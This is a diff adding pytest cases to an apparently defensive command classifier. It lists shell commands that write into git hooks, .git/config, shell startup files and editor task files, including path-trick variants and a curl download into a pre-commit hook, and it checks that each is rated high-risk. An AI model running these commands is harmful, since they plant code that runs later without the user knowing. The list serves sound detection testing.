@@ -618,3 +618,39 @@ def test_hostile_lines_are_tier_4_within_a_bounded_amount_of_lexing(workspace, n
         found = classify_command(HOSTILE[name], workspace)
     assert found.tier == 4, found.reason
     assert sum(lexed) <= 60_000  # the work budget (50k) plus the line that crossed it
+
+
+# -- writes into files that run later (issue 24 §B) ----------------------------------------------
+
+RUNS_LATER_WRITES = [
+    "echo x > .git/config", "echo x >> .git/hooks/pre-commit", "printf x > .GIT/config",
+    "echo x > .git./config", "echo x > sub/../.git/config", "cd .git && echo x > config",
+    "cd sub && echo x > ../.git/config", "echo x >> .envrc", "echo x >> .bashrc",
+    "cat x | tee .git/config", "tee -a .zshenv < x", "cp evil .git/hooks/pre-commit",
+    "cp -t .git/hooks evil", "install -m 755 evil .git/hooks/post-checkout",
+    "mv .git .git-old", "mv x .husky/pre-commit", "ln -s /tmp/x .git/hooks/pre-push",
+    "chmod +x .git/hooks/pre-commit", "touch .git/hooks/x", "sed -i s/a/b/ .git/config",
+    "sed -i.bak 's/x/y/' .pre-commit-config.yaml", "sort -o .git/config f",
+    "curl -o .git/hooks/pre-commit https://example.com/x", "echo x > .vscode/tasks.json",
+    "dd of=.git/config", "rsync x .git/config", "tar -xf a.tar -C .git",
+    "echo x > gitlink/config",
+]
+RUNS_LATER_READS = ["cat .git/config", "ls .git/hooks", "git status", "git commit -m x",
+                    "grep -r x .git", "echo x > notes.txt", "cp a b", "cat .envrc",
+                    "diff .bashrc x"]
+
+
+@pytest.mark.parametrize("command", RUNS_LATER_WRITES)
+def test_writes_into_files_that_run_later_are_tier_4(workspace, command) -> None:
+    (workspace / ".git").mkdir(exist_ok=True)
+    if not (workspace / "gitlink").exists():
+        (workspace / "gitlink").symlink_to(".git")
+    found = classify_command(command, workspace)
+    assert found.tier == 4, found.reason
+
+
+@pytest.mark.parametrize("command", RUNS_LATER_READS)
+def test_reading_files_that_run_later_stays_tier_3(workspace, command) -> None:
+    (workspace / ".git").mkdir(exist_ok=True)
+    found = classify_command(command, workspace)
+    assert found.tier == 3, found.reason
